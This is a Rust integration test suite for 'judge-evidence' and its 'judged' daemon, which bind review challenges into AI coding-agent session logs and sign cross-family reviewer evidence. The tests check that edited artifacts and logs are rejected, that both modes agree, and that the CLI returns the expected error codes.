//! `judge-evidence` end to end (issue 3): the real binary over live copies of real
//! Copilot CLI 1.0.102 logs ([`judged_tests::live`]), in direct mode and in daemon mode
//! against a real `judged`.

use judged_tests::live::{BINDING, BOTH, Live, Mode, Run, append, p, read_json, replace_all};
use judged_tests::{Daemon, bin};
use serde_json::{Map, Value};
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

const REVIEWER_TEXT: &str = "Score: 8/10\nVerdict: ready\n\n1. Weakness: none\nMemory update: none";
/// Artifact fields that legitimately differ between two runs over the same log.
const CHALLENGE_RUN_FIELDS: &[&str] = &["nonce", "issued_at", "witness"];
const EVIDENCE_RUN_FIELDS: &[&str] = &["verified_at", "witness", "response_path"];

// ---------------------------------------------------------------------------------------
// Artifacts and logs
// ---------------------------------------------------------------------------------------

fn write_json(path: &Path, value: &Map<String, Value>) {
    fs::write(path, serde_json::to_vec_pretty(value).unwrap()).unwrap();
}

fn without(map: &Map<String, Value>, fields: &[&str]) -> Map<String, Value> {
    map.iter().filter(|(k, _)| !fields.contains(&k.as_str())).map(|(k, v)| (k.clone(), v.clone())).collect()
}

fn mode_of(path: &Path) -> u32 {
    fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// The `id` of the last event in a log.
fn last_event_id(log: &Path) -> String {
    event_id_back(log, 0)
}

/// The id of the event `back` lines before the last.
fn event_id_back(log: &Path, back: usize) -> String {
    let text = fs::read_to_string(log).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let line: Value = serde_json::from_str(lines[lines.len() - 1 - back]).unwrap();
    line["id"].as_str().expect("the event has an id").to_owned()
}

// ---------------------------------------------------------------------------------------
// The scenario runner: one log, both modes
// ---------------------------------------------------------------------------------------

/// One mode's `verify` of the daemon-issued challenge.
#[derive(Debug)]
struct Verified {
    run: Run,
    evidence: PathBuf,
    response: PathBuf,
}

/// A scenario run through both modes. The daemon issues the challenge whose nonce goes
/// into the host log (a log can carry only one nonce); direct mode issues its own over the
/// same prefix, which must agree on every decision field.
struct Scenario {
    // Dropped first: the daemon stops before its temp dir goes.
    _daemon: Daemon,
    live: Live,
    challenge: PathBuf,
    direct_challenge: PathBuf,
    verified: Vec<(Mode, Verified)>,
}

impl Scenario {
    fn run(name: &str) -> Scenario {
        let live = Live::copilot(name);
        let daemon = live.start_daemon();
        let (challenge, direct_challenge) = (live.out("challenge-daemon.json"), live.out("challenge-direct.json"));
        live.challenge(Mode::Daemon, &challenge, &[]).expect_code(0, "daemon challenge");
        live.challenge(Mode::Direct, &direct_challenge, &[]).expect_code(0, "direct challenge");
        let (by_daemon, by_direct) = (read_json(&challenge), read_json(&direct_challenge));
        assert!(by_daemon["witness"].is_string(), "the daemon witnesses its challenge");
        assert!(!by_direct.contains_key("witness"), "direct mode has no witness");
        assert_eq!(
            without(&by_daemon, CHALLENGE_RUN_FIELDS),
            without(&by_direct, CHALLENGE_RUN_FIELDS),
            "both modes bind the same marker"
        );
        live.finish(by_daemon["nonce"].as_str().unwrap());

        let verified = BOTH
            .iter()
            .map(|&mode| {
                let (evidence, response) = (
                    live.out(&format!("evidence-{}.json", mode.flag())),
                    live.out(&format!("response-{}.md", mode.flag())),
                );
                let run = live.verify(mode, &challenge, &evidence, &response, &[]);
                (mode, Verified { run, evidence, response })
            })
            .collect();
        let scenario = Scenario { _daemon: daemon, live, challenge, direct_challenge, verified };
        scenario.assert_modes_agree();
        scenario
    }

    fn verified(&self, mode: Mode) -> &Verified {
        &self.verified.iter().find(|(m, _)| *m == mode).expect("both modes ran").1
    }

    /// The exit code both modes gave.
    fn code(&self) -> i32 {
        self.verified(Mode::Direct).run.code
    }

    fn evidence(&self, mode: Mode) -> Map<String, Value> {
        read_json(&self.verified(mode).evidence)
    }

    /// Same exit code, same error, same artifacts up to the per-run fields.
    fn assert_modes_agree(&self) {
        let (daemon, direct) = (self.verified(Mode::Daemon), self.verified(Mode::Direct));
        assert_eq!(
            daemon.run.code, direct.run.code,
            "exit codes differ:\ndaemon {:?}\ndirect {:?}",
            daemon.run, direct.run
        );
        if direct.run.code != 0 {
            assert_eq!(daemon.run.error(), direct.run.error(), "both modes refuse alike");
        }
        assert_eq!(daemon.evidence.exists(), direct.evidence.exists(), "evidence written in one mode only");
        assert_eq!(daemon.response.exists(), direct.response.exists(), "response written in one mode only");
        if direct.evidence.exists() {
            let (by_daemon, by_direct) = (self.evidence(Mode::Daemon), self.evidence(Mode::Direct));
            assert!(by_daemon["witness"].is_string() && !by_direct.contains_key("witness"));
            assert_eq!(without(&by_daemon, EVIDENCE_RUN_FIELDS), without(&by_direct, EVIDENCE_RUN_FIELDS));
            assert_eq!(fs::read(&daemon.response).unwrap(), fs::read(&direct.response).unwrap());
        }
    }

    /// Assert a refusal with `code` and that no artifact was written.
    fn assert_refused(&self, code: i32) {
        assert_eq!(self.code(), code, "{:?}", self.verified(Mode::Direct).run);
        assert_eq!(self.verified(Mode::Direct).run.error()["exit_code"], code);
        for (mode, verified) in &self.verified {
            assert!(!verified.evidence.exists() && !verified.response.exists(), "{mode:?} left an artifact behind");
        }
    }
}

// ---------------------------------------------------------------------------------------
// Scenarios from real host runs
// ---------------------------------------------------------------------------------------

#[test]
fn cross_family_ok_is_verified_identically_in_both_modes() {
    let scenario = Scenario::run("cross-family-ok");
    assert_eq!(scenario.code(), 0);
    let evidence = scenario.evidence(Mode::Daemon);
    for (field, value) in [
        ("status", "verified"),
        ("reason", "host-event-verified-cross-family"),
        ("executor_model", "claude-sonnet-4.6"),
        ("executor_family", "anthropic"),
        ("reviewer_model", "gpt-5.4"),
        ("reviewer_family", "openai"),
        ("family_relation", "different"),
        ("agent_name", "rubber-duck"),
        ("tool_call_id", "call_s2"),
        ("binding", BINDING),
        ("session_id", "f3c0a381-16f0-4c0f-9f1f-0d32777e2e62"),
        ("schema", "aris.copilot-native.evidence/v1"),
    ] {
        assert_eq!(evidence[field], value, "evidence field {field}");
    }
    assert!(evidence["evidence_id"].as_str().is_some_and(|id| id.starts_with("cne_") && id.len() == 36));
    let daemon_run = &scenario.verified(Mode::Daemon).run;
    assert_eq!(Value::Object(evidence), daemon_run.json(), "stdout is the evidence written");
    for (_, verified) in &scenario.verified {
        assert_eq!(fs::read_to_string(&verified.response).unwrap(), REVIEWER_TEXT);
        for artifact in [&verified.evidence, &verified.response] {
            assert_eq!(mode_of(artifact), 0o600, "{} is owner-only", artifact.display());
        }
    }
    assert_eq!(mode_of(&scenario.challenge), 0o600);
    assert_eq!(mode_of(&scenario.direct_challenge), 0o600);
}

#[test]
fn same_family_is_rejected_with_10_and_both_artifacts_are_written() {
    let scenario = Scenario::run("same-family");
    assert_eq!(scenario.code(), 10);
    for mode in BOTH {
        let verified = scenario.verified(mode);
        assert_eq!(verified.run.error()["exit_code"], 10);
        let evidence = scenario.evidence(mode);
        assert_eq!(
            (evidence["status"].as_str(), evidence["reason"].as_str()),
            (Some("rejected"), Some("same-model-family"))
        );
        assert_eq!(evidence["reviewer_model"], "claude-opus-4.6");
        assert!(verified.response.exists());
        // Rejected evidence never validates.
        scenario.live.validate(mode, &verified.evidence).expect_code(2, "validate rejected evidence");
    }
}

#[test]
fn a_task_without_the_nonce_line_is_6() {
    Scenario::run("no-nonce").assert_refused(6);
}

#[test]
fn a_task_of_another_agent_type_is_6() {
    Scenario::run("wrong-agent-type").assert_refused(6);
}

#[test]
fn a_failed_reviewer_is_7() {
    Scenario::run("reviewer-error").assert_refused(7);
}

#[test]
fn validate_accepts_later_appends_and_rejects_an_edit_inside_the_bound_prefix() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let validate_all = |code: i32, what: &str| {
        for mode in BOTH {
            let run = live.validate(mode, &scenario.verified(mode).evidence);
            run.expect_code(code, &format!("{what} ({mode:?})"));
            if code == 0 {
                assert_eq!(run.json()["witness_checked"], mode == Mode::Daemon, "{what} ({mode:?})");
                assert_eq!(run.json()["evidence_id"], scenario.evidence(mode)["evidence_id"]);
            }
        }
    };
    validate_all(0, "fresh evidence");

    // The host's next event, chained to the one before it as the host chains every event.
    let later = format!(
        "{}{}\n",
        r#"{"type":"assistant.turn_start","data":{"turnId":"5"},"id":"e0a3a6b2-5b1e-4b8e-9c39-8d2f0f6b7a11","#,
        format_args!(r#""timestamp":"2099-01-01T00:00:00.000Z","parentId":"{}"}}"#, last_event_id(&live.log))
    );
    append(&live.log, later.as_bytes());
    validate_all(0, "after an append");

    // The response file is bound too (daemon mode receives it with the request).
    for mode in BOTH {
        fs::write(&scenario.verified(mode).response, "Score: 10/10\nVerdict: ready\n").unwrap();
    }
    validate_all(2, "after the response file was edited");
    for mode in BOTH {
        fs::write(&scenario.verified(mode).response, REVIEWER_TEXT).unwrap();
    }
    validate_all(0, "after the response file was restored");

    // Evidence claiming a longer prefix than the log has.
    for mode in BOTH {
        let mut longer = scenario.evidence(mode);
        longer.insert("event_prefix_bytes".into(), (fs::metadata(&live.log).unwrap().len() + 1).into());
        let path = live.out(&format!("evidence-longer-{}.json", mode.flag()));
        write_json(&path, &longer);
        live.validate(mode, &path).expect_code(2, &format!("prefix longer than the log ({mode:?})"));
    }

    // One byte inside the bound prefix: the user's prompt on line 2.
    let mut bytes = fs::read(&live.log).unwrap();
    let at = bytes.windows(18).position(|w| w == b"\"content\":\"Run ARI").expect("line 2 prompt") + 11;
    assert!((at as u64) < scenario.evidence(Mode::Direct)["event_prefix_bytes"].as_u64().unwrap());
    bytes[at] = b'r';
    fs::write(&live.log, bytes).unwrap();
    validate_all(2, "after an edit inside the bound prefix");
}

#[test]
fn challenge_binds_a_claude_code_marker_identically_in_both_modes() {
    let live = Live::claude();
    let _daemon = live.start_daemon();
    let challenges = BOTH.map(|mode| {
        let out = live.out(&format!("challenge-{}.json", mode.flag()));
        live.challenge(mode, &out, &[]).expect_code(0, &format!("{mode:?} challenge"));
        live.validate_challenge(mode, &out).expect_code(0, &format!("{mode:?} validate-challenge"));
        read_json(&out)
    });
    assert_eq!(without(&challenges[0], CHALLENGE_RUN_FIELDS), without(&challenges[1], CHALLENGE_RUN_FIELDS));
    let challenge = &challenges[0];
    assert_eq!(challenge["host"], "claude-code");
    assert_eq!(challenge["session_id"], "70e11cfc-c3fb-426c-9dfc-374e15ffb0af");
    assert_eq!(challenge["challenge_tool_call_id"], "toolu_s0_0000000000000000");
    assert_eq!(challenge["executor_model"], "claude-sonnet-4-6");
    assert_eq!(challenge["executor_family"], "anthropic");
    assert_eq!(challenge["session_events"], p(&live.log));
}

#[test]
fn artifacts_that_are_missing_or_not_evidence_are_refused_with_2() {
    let live = Live::copilot("cross-family-ok");
    let _daemon = live.start_daemon();
    let cases: [(&str, Option<&str>); 4] = [
        ("missing.json", None),
        ("not-json.json", Some("not json")),
        ("array.json", Some("[1, 2, 3]")),
        ("unknown-schema.json", Some(r#"{"schema": "aris.copilot-native.evidence/v0", "status": "verified"}"#)),
    ];
    for (name, content) in cases {
        let path = live.out(name);
        if let Some(content) = content {
            fs::write(&path, content).unwrap();
        }
        for mode in BOTH {
            for run in [live.validate(mode, &path), live.validate_challenge(mode, &path)] {
                run.expect_code(2, &format!("{name} ({mode:?})"));
                assert_eq!(run.error()["status"], "error");
                assert!(run.error()["error"].as_str().unwrap().contains(name), "names the file: {run:?}");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// What only the daemon can tell
// ---------------------------------------------------------------------------------------

#[test]
fn validate_challenge_prints_the_challenge_with_witness_checked() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    for (mode, checked) in [(Mode::Daemon, true), (Mode::Direct, false)] {
        let run = live.validate_challenge(mode, &scenario.challenge);
        run.expect_code(0, "validate-challenge");
        let mut expected = read_json(&scenario.challenge);
        expected.insert("witness_checked".into(), checked.into());
        assert_eq!(run.json(), Value::Object(expected), "{mode:?}");
    }
    // A challenge the daemon never issued, and one edited by hand, are refused by it.
    let run = live.validate_challenge(Mode::Daemon, &scenario.direct_challenge);
    assert!(run.expect_code(2, "unwitnessed challenge").error()["error"].as_str().unwrap().contains("witness"));
    live.validate_challenge(Mode::Direct, &scenario.direct_challenge).expect_code(0, "direct accepts its own");
    let mut edited = read_json(&scenario.challenge);
    edited.insert("issued_at".into(), "2020-01-01T00:00:00.000000Z".into());
    let edited_path = live.out("challenge-edited.json");
    write_json(&edited_path, &edited);
    live.validate_challenge(Mode::Daemon, &edited_path).expect_code(2, "edited challenge");
}

#[test]
fn evidence_edited_by_hand_is_rejected_by_the_daemon() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let original = scenario.evidence(Mode::Daemon);
    // Fields outside the evidence id: the id stays valid, so only the witness can tell.
    let edits: [(&str, Value); 3] = [
        ("reason", "host-event-verified-cross-family-by-hand".into()),
        ("verified_at", "2020-01-01T00:00:00.000000Z".into()),
        ("witness", Value::Null),
    ];
    for (field, value) in edits {
        let mut edited = original.clone();
        if value.is_null() {
            edited.remove(field);
        } else {
            edited.insert(field.into(), value);
        }
        let path = live.out(&format!("evidence-edited-{field}.json"));
        write_json(&path, &edited);
        let run = live.validate(Mode::Daemon, &path);
        run.expect_code(2, &format!("evidence with {field} edited"));
        assert!(run.error()["error"].as_str().unwrap().contains("witness"), "{run:?}");
        let gate = live.judge(Mode::Daemon, &gate_args("copilot-native", Some(&path)));
        assert_eq!(gate.json()["identity_assurance"], "failed", "the gate refuses it too: {gate:?}");
    }
}

/// `judged key` in `home`, with `args`; its stdout.
fn judged_key(home: &Path, args: &[&str]) -> String {
    let output = Command::new(bin("judged")).arg("key").args(args).env("JUDGED_HOME", home).output().unwrap();
    assert!(output.status.success(), "judged key {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// Signed artifacts anyone can check: with the key `judged key` prints, `validate
/// --public-key` checks a daemon's challenge and evidence offline (no daemon, no journal,
/// no log: another home, the log moved away), and names what fails: an edit, no witness,
/// another key, the HMAC of judged before signatures, a key that is not one. After `judged
/// key rotate` the running daemon signs with the new key, and what the old one signed
/// still checks, in daemon mode and with the listed keys in `--public-key-file`.
#[test]
fn signed_artifacts_validate_offline_with_the_public_key_alone() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let key = judged_key(&live.home, &[]).trim().to_owned();
    let listed: Value = serde_json::from_str(&judged_key(&live.home, &["--json"])).unwrap();
    assert_eq!(listed["keys"][0]["public_key"], key.as_str(), "{listed}");
    assert_eq!((listed["keys"][0]["current"].as_bool(), listed["keys"].as_array().unwrap().len()), (Some(true), 1));
    let elsewhere = live.tmp.path().join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    let offline = |args: &[&str]| {
        let output = Command::new(bin("judge-evidence"))
            .args(["--mode", "daemon"])
            .args(args)
            .env("JUDGED_HOME", &elsewhere)
            .output()
            .unwrap();
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
        Run { code: output.status.code().unwrap(), stdout: text(output.stdout), stderr: text(output.stderr) }
    };
    let refusal = |args: &[&str], what: &str| {
        let run = offline(args);
        run.expect_code(2, what).error()["error"].as_str().unwrap().to_owned()
    };
    let evidence = scenario.verified(Mode::Daemon).evidence.clone();
    let shown = offline(&["validate-challenge", "--challenge", p(&scenario.challenge), "--public-key", &key]);
    let shown = shown.expect_code(0, "the daemon's challenge, offline").json();
    assert_eq!((&shown["witness_checked"], &shown["signed_by"]), (&Value::Bool(true), &Value::from(key.as_str())));
    let shown =
        offline(&["validate", "--evidence", p(&evidence), "--public-key", &key]).expect_code(0, "evidence").json();
    assert_eq!(shown["evidence_id"], scenario.evidence(Mode::Daemon)["evidence_id"]);

    let with = |field: &str, value: &str| {
        let mut edited = scenario.evidence(Mode::Daemon);
        edited.insert(field.into(), value.into());
        let path = live.out(&format!("offline-{field}-{}.json", value.len()));
        write_json(&path, &edited);
        path
    };
    let edited = with("reason", "by-hand");
    let message = refusal(&["validate", "--evidence", p(&edited), "--public-key", &key], "edited");
    assert!(message.contains("does not match its fields: the artifact was edited after judged signed it"), "{message}");
    let direct = scenario.verified(Mode::Direct).evidence.clone();
    let message = refusal(&["validate", "--evidence", p(&direct), "--public-key", &key], "direct mode's");
    assert!(message.contains("carries no judged witness") && message.contains("verify it again with judged running"));
    let hmac = with("witness", &"ab".repeat(32));
    let message = refusal(&["validate", "--evidence", p(&hmac), "--public-key", &key], "an HMAC witness");
    assert!(message.contains("shared-secret (HMAC) witness") && message.contains("verify the review again"));
    let other = judged_key(&elsewhere, &[]).trim().to_owned();
    let message = refusal(&["validate", "--evidence", p(&evidence), "--public-key", &other], "another key");
    let id = &listed["keys"][0]["key_id"].as_str().unwrap();
    assert!(message.contains(&format!("signed by judged key {id}, which is not among the keys given")), "{message}");
    let message = refusal(&["validate", "--evidence", p(&evidence), "--public-key", "zz"], "not a key");
    assert!(message.contains("--public-key: `zz` is not a judged public key"), "{message}");
    let message = refusal(&["validate", "--evidence", p(&scenario.challenge), "--public-key", &key], "a challenge");
    assert!(message.contains("not the evidence schema"), "{message}");

    let rotated = judged_key(&live.home, &["rotate"]).trim().to_owned();
    assert_ne!(rotated, key);
    let listed: Value = serde_json::from_str(&judged_key(&live.home, &["--json"])).unwrap();
    let keys: Vec<&str> =
        listed["keys"].as_array().unwrap().iter().map(|k| k["public_key"].as_str().unwrap()).collect();
    assert_eq!(keys, [rotated.as_str(), key.as_str()], "current first, the old one kept");
    let keys_file = live.out("judged.keys");
    fs::write(&keys_file, format!("{rotated}\n{key}\n")).unwrap();
    let run = offline(&["validate", "--evidence", p(&evidence), "--public-key-file", p(&keys_file)]);
    assert_eq!(run.expect_code(0, "the old key's evidence, with every key").json()["signed_by"], key.as_str());
    live.validate(Mode::Daemon, &evidence).expect_code(0, "the old key's evidence, in daemon mode");
    let again = live.out("challenge-rotated.json");
    live.challenge(Mode::Daemon, &again, &["--replace"]).expect_code(0, "a challenge after the rotation");
    let run = offline(&["validate-challenge", "--challenge", p(&again), "--public-key", &rotated]);
    run.expect_code(0, "the running daemon signs with the new key");
    // Nothing offline reads the log (last: the daemon takes a moved log for a rewrite).
    fs::rename(&live.log, live.log.with_extension("away")).unwrap();
    let run = offline(&["validate", "--evidence", p(&evidence), "--public-key-file", p(&keys_file)]);
    run.expect_code(0, "without the log");
}

#[test]
fn the_daemon_journals_markers_challenges_and_verdicts() {
    let live = Live::copilot("cross-family-ok");
    let daemon = live.start_daemon();
    let journal = || daemon.call("status", Value::Null).expect("status")["journal_events"].as_u64().unwrap();
    let before = journal();
    let challenge = live.out("challenge.json");
    live.challenge(Mode::Daemon, &challenge, &[]).expect_code(0, "challenge");
    let challenged = journal();
    assert!(challenged >= before + 2, "marker seen and challenge issued: {before} -> {challenged}");
    live.finish(read_json(&challenge)["nonce"].as_str().unwrap());
    let (evidence, response) = (live.out("evidence.json"), live.out("response.md"));
    live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
    assert!(journal() > challenged, "evidence verified");
}

#[test]
fn a_challenge_issued_in_direct_mode_is_refused_by_daemon_verify() {
    let live = Live::copilot("cross-family-ok");
    let _daemon = live.start_daemon();
    let challenge = live.out("challenge.json");
    live.challenge(Mode::Direct, &challenge, &[]).expect_code(0, "direct challenge");
    live.finish(read_json(&challenge)["nonce"].as_str().unwrap());

    let (evidence, response) = (live.out("evidence.json"), live.out("response.md"));
    let run = live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]);
    assert!(run.expect_code(2, "daemon verify").error()["error"].as_str().unwrap().contains("witness"));
    assert!(!evidence.exists() && !response.exists(), "nothing written");
    live.verify(Mode::Direct, &challenge, &evidence, &response, &[]).expect_code(0, "direct verify of the same");
}

// ---------------------------------------------------------------------------------------
// The CLI contract
// ---------------------------------------------------------------------------------------

#[test]
fn marker_prints_the_reference_bytes() {
    let live = Live::copilot("cross-family-ok");
    let run = live.judge(Mode::Direct, &["marker", "--binding", BINDING]);
    run.expect_code(0, "marker");
    assert_eq!(
        run.stdout,
        format!(
            "{{\"binding\": \"{BINDING}\", \"schema\": \"aris.copilot-native.challenge/v1\", \"status\": \"marker\"}}\n"
        )
    );
}

#[test]
fn bad_arguments_exit_2() {
    let live = Live::copilot("cross-family-ok");
    let out = live.out("challenge.json");
    let bad_binding = concat!(
        r#"{"status": "error", "error": "--binding must be a 16..128 character stable token", "exit_code": 2}"#,
        "\n"
    );
    for binding in ["short", "_leading_underscore_is_bad", "has space in the middle ok", &"x".repeat(129)] {
        let run = live.judge(Mode::Direct, &["marker", "--binding", binding]);
        assert_eq!((run.code, run.stdout.as_str(), run.stderr.as_str()), (2, "", bad_binding), "binding {binding:?}");
        let run = live.judge(Mode::Direct, &["challenge", "--output", p(&out), "--binding", binding]);
        assert_eq!((run.code, run.stderr.as_str()), (2, bad_binding), "challenge binding {binding:?}");
    }
    for age in ["0", "601", "-1"] {
        let run = live.challenge(Mode::Direct, &out, &["--max-age-seconds", age]);
        run.expect_code(2, &format!("--max-age-seconds {age}"));
        assert!(run.error()["error"].as_str().unwrap().contains("--max-age-seconds"));
    }
    for args in [
        &["marker"][..],
        &["challenge", "--binding", BINDING],
        &["verify", "--challenge", "c.json", "--output", "e.json"],
        &["validate"],
        &["validate-challenge"],
        &["gate", "--round-backend", "codex", "--score", "8"],
    ] {
        live.judge(Mode::Direct, args).expect_code(2, &format!("missing flag: {args:?}"));
    }
    assert!(!out.exists(), "no refusal wrote a challenge");
}

#[test]
fn challenge_without_a_session_is_3_in_both_modes() {
    let live = Live::copilot("cross-family-ok");
    let _daemon = live.start_daemon();
    let elsewhere = live.tmp.path().join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    for mode in BOTH {
        let out = live.out(&format!("challenge-{}.json", mode.flag()));
        let args = ["challenge", "--output", p(&out), "--binding", BINDING, "--cwd", p(&elsewhere)];
        let run = live.judge(mode, &[&args[..], &["--session-root", p(&live.root), "--wait-seconds", "0"]].concat());
        assert_eq!(run.expect_code(3, &format!("{mode:?}")).error()["exit_code"], 3);
        assert!(!out.exists());
    }
}

/// In a Claude Code session, a challenge that finds no marker says which hosts' logs it
/// searched and where, in both modes: the reference's "Copilot root session event" sent
/// Claude Code users looking for a Copilot session.
#[test]
fn challenge_without_its_marker_in_a_claude_code_session_names_the_hosts_and_roots_searched() {
    let live = Live::claude();
    let _daemon = live.start_daemon();
    let other = "run_20261130_a1b2c3d4_r9_review_00000000";
    let args = ["challenge", "--binding", other, "--cwd", p(&live.project), "--wait-seconds", "0"];
    for mode in BOTH {
        let out = live.out(&format!("challenge-{}.json", mode.flag()));
        let named = [&args[..], &["--output", p(&out), "--session-root", p(&live.root)]].concat();
        let message = live.judge(mode, &named).expect_code(3, &format!("{mode:?}")).error()["error"].to_string();
        assert!(!message.contains("Copilot root session event"), "{mode:?}: {message}");
        assert!(message.contains("Claude Code"), "{mode:?}: {message}");
        assert!(message.contains(&format!("under {}", p(&live.root))), "{mode:?} names the root: {message}");
        assert!(message.contains(&format!("judge-evidence marker --binding {other}")), "{mode:?}: {message}");
        assert!(!out.exists());
    }
    // Without --session-root the daemon searches the roots it watches, and names each.
    let out = live.out("challenge-watched.json");
    let run = live.judge(Mode::Daemon, &[&args[..], &["--output", p(&out)]].concat());
    let message = run.expect_code(3, "daemon, watched roots").error()["error"].to_string();
    let copilot = live.tmp.path().join("copilot/session-state");
    assert!(message.contains(&format!("the Copilot CLI sessions under {}", p(&copilot))), "{message}");
    assert!(message.contains(&format!("the Claude Code projects under {}", p(&live.root))), "{message}");
}

/// Run `challenge` in both modes; they must refuse alike. Returns the exit code.
fn challenge_refusal(live: &Live) -> i32 {
    let _daemon = live.start_daemon();
    let runs = BOTH.map(|mode| live.challenge(mode, &live.out(&format!("challenge-{}.json", mode.flag())), &[]));
    assert_eq!(runs[0].code, runs[1].code, "{runs:?}");
    assert_eq!(runs[0].error(), runs[1].error(), "both modes refuse alike");
    assert!(!live.out("challenge-daemon.json").exists() && !live.out("challenge-direct.json").exists());
    runs[0].code
}

#[test]
fn a_marker_in_two_sessions_is_ambiguous_4_in_both_modes() {
    let live = Live::copilot("cross-family-ok");
    let twin = live.root.join("twin-session/events.jsonl");
    fs::create_dir_all(twin.parent().unwrap()).unwrap();
    fs::copy(&live.log, &twin).unwrap();
    assert_eq!(challenge_refusal(&live), 4);
}

#[test]
fn an_executor_of_unknown_family_is_5_in_both_modes() {
    let live = Live::copilot("cross-family-ok");
    fs::write(&live.log, replace_all(&fs::read(&live.log).unwrap(), "claude-sonnet-4.6", "mystery-model-9")).unwrap();
    assert_eq!(challenge_refusal(&live), 5);
}

#[test]
fn a_marker_older_than_max_age_is_no_binding_in_both_modes() {
    let live = Live::copilot("cross-family-ok");
    let _daemon = live.start_daemon();
    // The live log's marker call is stamped about 1.3 s before the log was written.
    for mode in BOTH {
        let out = live.out(&format!("challenge-{}.json", mode.flag()));
        live.challenge(mode, &out, &["--max-age-seconds", "1"]).expect_code(3, &format!("{mode:?}"));
        assert!(!out.exists());
        live.challenge(mode, &out, &["--max-age-seconds", "600"]).expect_code(0, &format!("{mode:?}"));
    }
}

#[test]
fn a_relative_session_root_means_the_same_in_both_modes() {
    let live = Live::copilot("cross-family-ok");
    // The daemon does not watch this root yet: it learns it from --session-root.
    let unrelated = live.tmp.path().join("unrelated");
    let _daemon = Daemon::start(&live.home, &[&unrelated], &[&unrelated]);
    for mode in BOTH {
        let out = live.out(&format!("challenge-{}.json", mode.flag()));
        let args = ["challenge", "--output", p(&out), "--binding", BINDING, "--cwd", "project"];
        let args = [&args[..], &["--session-root", "copilot/session-state", "--wait-seconds", "0"]].concat();
        live.judge(mode, &[&args[..], &["--max-age-seconds", "600"]].concat()).expect_code(0, &format!("{mode:?}"));
        assert_eq!(read_json(&out)["session_events"], p(&live.log));
    }
}

#[test]
fn challenge_refuses_to_overwrite_without_replace() {
    let live = Live::copilot("cross-family-ok");
    let out = live.out("challenge.json");
    fs::write(&out, "keep me").unwrap();
    let run = live.challenge(Mode::Direct, &out, &[]);
    assert!(run.expect_code(2, "existing output").error()["error"].as_str().unwrap().contains(p(&out)));
    assert_eq!(fs::read_to_string(&out).unwrap(), "keep me", "the existing file is untouched");
    live.challenge(Mode::Direct, &out, &["--replace"]).expect_code(0, "--replace");
    assert_eq!(read_json(&out)["status"], "bound");
}

/// Defect §8.11: a verify refused for an existing output leaves no response file behind.
#[test]
fn verify_refusing_an_existing_output_leaves_no_orphan_response() {
    let live = Live::copilot("cross-family-ok");
    let _daemon = live.start_daemon();
    let challenge = live.out("challenge.json");
    live.challenge_and_review(&challenge);
    for mode in BOTH {
        let (evidence, response) =
            (live.out(&format!("evidence-{mode:?}.json")), live.out(&format!("response-{mode:?}.md")));
        fs::write(&evidence, "old evidence").unwrap();
        live.verify(mode, &challenge, &evidence, &response, &[]).expect_code(2, "existing evidence");
        assert!(!response.exists(), "{mode:?}: orphan response file");
        assert_eq!(fs::read_to_string(&evidence).unwrap(), "old evidence");

        fs::remove_file(&evidence).unwrap();
        fs::write(&response, "old response").unwrap();
        live.verify(mode, &challenge, &evidence, &response, &[]).expect_code(2, "existing response");
        assert!(!evidence.exists(), "{mode:?}: evidence written beside a refused response");
        assert_eq!(fs::read_to_string(&response).unwrap(), "old response");

        fs::write(&evidence, "old evidence").unwrap();
        live.verify(mode, &challenge, &evidence, &response, &["--replace"]).expect_code(0, "--replace");
        assert_eq!(read_json(&evidence)["status"], "verified");
        assert_eq!(fs::read_to_string(&response).unwrap(), REVIEWER_TEXT);
    }
}

#[test]
fn auto_mode_without_a_daemon_says_so_once_and_decides_directly() {
    let live = Live::copilot("cross-family-ok");
    let challenge = live.out("challenge.json");
    let run = live.challenge(Mode::Auto, &challenge, &[]);
    run.expect_code(0, "auto challenge");
    assert_eq!(run.stderr.lines().count(), 1, "one notice line: {:?}", run.stderr);
    assert!(run.stderr.contains("judged is not running"), "{:?}", run.stderr);
    assert!(!read_json(&challenge).contains_key("witness"), "decided without the daemon");
    let run = live.validate_challenge(Mode::Auto, &challenge);
    assert_eq!(run.expect_code(0, "auto validate-challenge").json()["witness_checked"], false);
}

#[test]
fn auto_mode_prints_its_notice_once_even_while_waiting_for_the_host() {
    let live = Live::copilot("cross-family-ok");
    let elsewhere = live.tmp.path().join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    let out = live.out("challenge.json");
    let args = ["challenge", "--output", p(&out), "--binding", BINDING, "--cwd", p(&elsewhere)];
    let run = live.judge(Mode::Auto, &[&args[..], &["--session-root", p(&live.root), "--wait-seconds", "1"]].concat());
    run.expect_code(3, "no binding after waiting");
    assert_eq!(run.stderr.lines().count(), 2, "one notice and the error: {:?}", run.stderr);
}

#[test]
fn auto_mode_with_a_daemon_uses_it() {
    let live = Live::copilot("cross-family-ok");
    let _daemon = live.start_daemon();
    let challenge = live.out("challenge.json");
    let run = live.challenge(Mode::Auto, &challenge, &[]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""), "{run:?}");
    assert!(read_json(&challenge)["witness"].is_string());
}

#[test]
fn daemon_mode_without_a_daemon_exits_2_naming_judged_start() {
    let live = Live::copilot("cross-family-ok");
    let challenge = live.out("challenge.json");
    let run = live.challenge(Mode::Daemon, &challenge, &[]);
    assert!(run.expect_code(2, "no daemon").error()["error"].as_str().unwrap().contains("judged start"), "{run:?}");
    assert!(!challenge.exists());
}

// ---------------------------------------------------------------------------------------
// gate
// ---------------------------------------------------------------------------------------

fn gate_args<'a>(backend: &'a str, evidence: Option<&'a Path>) -> Vec<&'a str> {
    let mut args = vec!["gate", "--round-backend", backend, "--score", "8", "--verdict", "ready"];
    if let Some(evidence) = evidence {
        args.extend(["--native-evidence", p(evidence)]);
    }
    args
}

#[test]
